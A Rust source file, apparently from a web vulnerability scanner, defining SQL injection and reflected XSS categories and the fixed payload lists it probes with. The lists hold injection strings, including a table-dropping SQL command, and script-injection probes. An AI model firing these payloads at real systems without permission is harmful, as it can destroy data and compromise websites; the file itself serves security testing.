use serde::{Deserialize, Serialize};
use std::fmt;

/// What a payload probes for, and what a finding is classified as.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Category {
    Sqli,
    Xss,
}

impl Category {
    pub fn as_str(&self) -> &'static str {
        match self {
            Category::Sqli => "sqli",
            Category::Xss => "xss",
        }
    }

    pub fn title(&self) -> &'static str {
        match self {
            Category::Sqli => "SQL Injection",
            Category::Xss => "Reflected XSS",
        }
    }
}

impl fmt::Display for Category {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Payload {
    pub value: String,
    pub category: Category,
}

impl Payload {
    pub fn new(value: impl Into<String>, category: Category) -> Self {
        Self {
            value: value.into(),
            category,
        }
    }
}

pub const SQLI_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "' OR '1'='1' /*",
    "' OR '1'='1' ({",
    "admin' --",
    "' OR '1'='1' #",
];

pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "'\"><script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    "<iframe src='javascript:alert(\"XSS\")'></iframe>",
];

/// The fixed payload matrix: SQL injection canaries first, then XSS.
pub fn default_payloads() -> Vec<Payload> {
    SQLI_PAYLOADS
        .iter()
        .map(|p| Payload::new(*p, Category::Sqli))
        .chain(XSS_PAYLOADS.iter().map(|p| Payload::new(*p, Category::Xss)))
        .collect()
}
